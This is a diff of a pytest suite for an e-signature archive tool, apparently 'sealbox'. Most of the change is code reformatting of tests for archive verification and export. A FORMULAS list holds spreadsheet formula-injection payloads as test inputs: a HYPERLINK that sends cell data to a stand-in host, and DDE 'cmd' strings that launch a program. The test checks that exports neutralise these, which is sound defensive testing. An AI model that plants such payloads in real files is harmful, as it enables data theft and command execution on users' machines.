@@ -60,7 +60,8 @@ def test_intact_archive_lines_say_what_holds(home: Path, archived: ArchiveTempla
 
 
 def test_a_renamed_folder_is_reported_alike_and_still_exported(
-        home: Path, archived: ArchiveTemplate, tmp_path: Path) -> None:
+    home: Path, archived: ArchiveTemplate, tmp_path: Path
+) -> None:
     crane = archived.crane.id
     original = folder_of(home, crane)
     renamed = original.with_name("Crane lease (signed copy)")
@@ -92,7 +93,8 @@ def test_a_renamed_folder_is_reported_alike_and_still_exported(
 
 
 def test_a_folder_moved_out_of_the_archive_stops_the_export(
-        home: Path, archived: ArchiveTemplate, tmp_path: Path) -> None:
+    home: Path, archived: ArchiveTemplate, tmp_path: Path
+) -> None:
     crane = archived.crane.id
     shutil.move(folder_of(home, crane), tmp_path / "elsewhere")
     code, report, text = verify()
@@ -108,20 +110,35 @@ def test_a_folder_moved_out_of_the_archive_stops_the_export(
         assert not dest.exists()
     # The other one alone still exports.
     other = tmp_path / "ledger.zip"
-    assert run_sealbox("archive", "export", "--id", archived.ledger.id,
-                       str(other)).returncode == 0
+    assert run_sealbox("archive", "export", "--id", archived.ledger.id, str(other)).returncode == 0
 
 
 def test_exporting_a_request_that_is_not_archived_is_refused(
-        home: Path, archived: ArchiveTemplate, tmp_path: Path) -> None:
+    home: Path, archived: ArchiveTemplate, tmp_path: Path
+) -> None:
     pdf = tmp_path / "draft.pdf"
     shutil.copy(next((home / "archive").rglob("*-signed.pdf")), pdf)
     spec = tmp_path / "spec.json"
-    spec.write_text(json.dumps({
-        "name": "Draft", "recipients": [{"firstName": "Ann", "lastName": "Lee",
-                                         "email": "ann@example.com"}],
-        "fields": [{"recipientIndex": 0, "type": "signature", "page": 1, "x": 72, "y": 700,
-                    "width": 100, "height": 40}]}), encoding="utf-8")
+    spec.write_text(
+        json.dumps(
+            {
+                "name": "Draft",
+                "recipients": [{"firstName": "Ann", "lastName": "Lee", "email": "ann@example.com"}],
+                "fields": [
+                    {
+                        "recipientIndex": 0,
+                        "type": "signature",
+                        "page": 1,
+                        "x": 72,
+                        "y": 700,
+                        "width": 100,
+                        "height": 40,
+                    }
+                ],
+            }
+        ),
+        encoding="utf-8",
+    )
     sent = run_sealbox("send", str(pdf), "--spec", str(spec), "--json")
     rid = json.loads(sent.stdout)["id"]
     dest = tmp_path / "draft.zip"
@@ -139,7 +156,8 @@ def _rewrite_manifest(folder: Path, kind: str, path: Path) -> None:
 
 
 def test_a_swapped_signed_pdf_with_its_hashes_fixed_is_caught(
-        home: Path, archived: ArchiveTemplate) -> None:
+    home: Path, archived: ArchiveTemplate
+) -> None:
     crane, ledger = folder_of(home, archived.crane.id), folder_of(home, archived.ledger.id)
     target = crane / "Crane lease-signed.pdf"
     shutil.copy(ledger / "Ledger audit-signed.pdf", target)  # another request's sealed PDF
@@ -150,14 +168,18 @@ def test_a_swapped_signed_pdf_with_its_hashes_fixed_is_caught(
     assert code == 1, text
     bad = [f for f in report["files"] if not f["ok"]]
     assert [(Path(f["path"]).name, f["state"]) for f in bad] == [
-        ("Crane lease-signed.pdf", "mismatch")]
+        ("Crane lease-signed.pdf", "mismatch")
+    ]
     assert "its sealed certificate names the signed document" in bad[0]["summary"]
-    assert "FAILED  Crane lease-signed.pdf: file intact, but not what its certificate names; " \
+    assert (
+        "FAILED  Crane lease-signed.pdf: file intact, but not what its certificate names; "
         "signature valid" in text
+    )
 
 
 def test_a_signature_broken_behind_fixed_hashes_reads_intact_and_invalid(
-        home: Path, archived: ArchiveTemplate) -> None:
+    home: Path, archived: ArchiveTemplate
+) -> None:
     crane = folder_of(home, archived.crane.id)
     target = crane / "Crane lease-signed.pdf"
     flip_byte(target)
@@ -171,7 +193,8 @@ def test_a_signature_broken_behind_fixed_hashes_reads_intact_and_invalid(
 
 
 def test_without_the_trust_root_verify_says_so_and_fails(
-        home: Path, archived: ArchiveTemplate) -> None:
+    home: Path, archived: ArchiveTemplate
+) -> None:
     ca = home / "data" / "seal" / "ca.pem"
     kept = ca.read_bytes()
     ca.unlink()
@@ -187,7 +210,8 @@ def test_without_the_trust_root_verify_says_so_and_fails(
 
 
 def test_a_file_added_to_a_folder_is_flagged_and_left_out_of_exports(
-        home: Path, archived: ArchiveTemplate, tmp_path: Path) -> None:
+    home: Path, archived: ArchiveTemplate, tmp_path: Path
+) -> None:
     crane = folder_of(home, archived.crane.id)
     (crane / "notes.txt").write_text("call Ann back", encoding="utf-8")
     (crane / ".DS_Store").write_bytes(b"\0\0\0\1Bud1")  # the Finder's: not reported
@@ -208,8 +232,14 @@ def test_a_file_added_to_a_folder_is_flagged_and_left_out_of_exports(
     assert len(list(folder_dest.rglob("request.json"))) == 2
 
 
-FORMULAS = ['=HYPERLINK("http://x.example/?q="&A1,"Invoice")', "+cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\tTabbed", "\rReturned"]
+FORMULAS = [
+    '=HYPERLINK("http://x.example/?q="&A1,"Invoice")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+    "\tTabbed",
+    "\rReturned",
+]
 
 
 @pytest.mark.slow
@@ -224,11 +254,32 @@ def test_archive_export_index_never_holds_a_formula(home: Path, tmp_path: Path) 
     doc.save(pdf)
     for n, name in enumerate(FORMULAS[:3]):
         spec = tmp_path / f"spec{n}.json"
-        spec.write_text(json.dumps({
-            "name": name, "recipients": [{"firstName": FORMULAS[3 + n], "lastName": "Doe",
-                                          "email": f"j{n}@example.com"}],
-            "fields": [{"recipientIndex": 0, "type": "signature", "page": 1, "x": 72,
-                        "y": 600, "width": 180, "height": 48}]}), encoding="utf-8")
+        spec.write_text(
+            json.dumps(
+                {
+                    "name": name,
+                    "recipients": [
+                        {
+                            "firstName": FORMULAS[3 + n],
+                            "lastName": "Doe",
+                            "email": f"j{n}@example.com",
+                        }
+                    ],
+                    "fields": [
+                        {
+                            "recipientIndex": 0,
+                            "type": "signature",
+                            "page": 1,
+                            "x": 72,
+                            "y": 600,
+                            "width": 180,
+                            "height": 48,
+                        }
+                    ],
+                }
+            ),
+            encoding="utf-8",
+        )
         sent = run_sealbox("send", str(pdf), "--spec", str(spec), "--json")
         assert sent.returncode == 0, sent.stderr
         rid = json.loads(sent.stdout)["id"]
